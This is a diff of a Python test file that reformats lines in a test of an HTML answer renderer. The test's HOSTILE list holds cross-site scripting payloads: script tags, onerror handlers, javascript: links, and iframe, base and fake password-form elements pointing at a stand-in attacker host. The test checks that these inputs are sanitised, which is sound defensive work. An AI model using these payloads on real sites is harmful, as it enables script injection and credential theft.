@@ -40,7 +40,8 @@ HOSTILE = (
     "```html\n<script>document.title='broken'</script>\n```",
     "```\"><script>document.title='broken'</script>\nx\n```",
     "`<img src=x onerror=document.title='broken'>`",
-    "| <script>document.title='broken'</script> | b |\n|---|---|\n| <img src=x onerror=document.title=1> | [x](javascript:1) |",
+    "| <script>document.title='broken'</script> | b |\n|---|---|\n"
+    "| <img src=x onerror=document.title=1> | [x](javascript:1) |",
     "<style>body{background:url(https://evil.example/x)}</style>",
     "<iframe src=https://evil.example></iframe><object data=x></object><base href=https://evil.example>",
     "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
@@ -192,7 +193,9 @@ def test_the_server_renders_harmless_elements_only(text: str) -> None:
     html = str(render_answer(text))
     assert set(re.findall(r"<([a-z0-9]+)", html)) <= ELEMENTS
     for tag in re.findall(r"<a [^>]*>", html):
-        assert re.fullmatch(r'<a href="(?:https?://|mailto:)[^"]*" rel="noopener noreferrer nofollow" target="_blank">', tag)
+        assert re.fullmatch(
+            r'<a href="(?:https?://|mailto:)[^"]*" rel="noopener noreferrer nofollow" target="_blank">', tag
+        )
     assert not re.search(r"<[^>]*\s(?:on\w+|style|src|srcset)=", html)
 
 
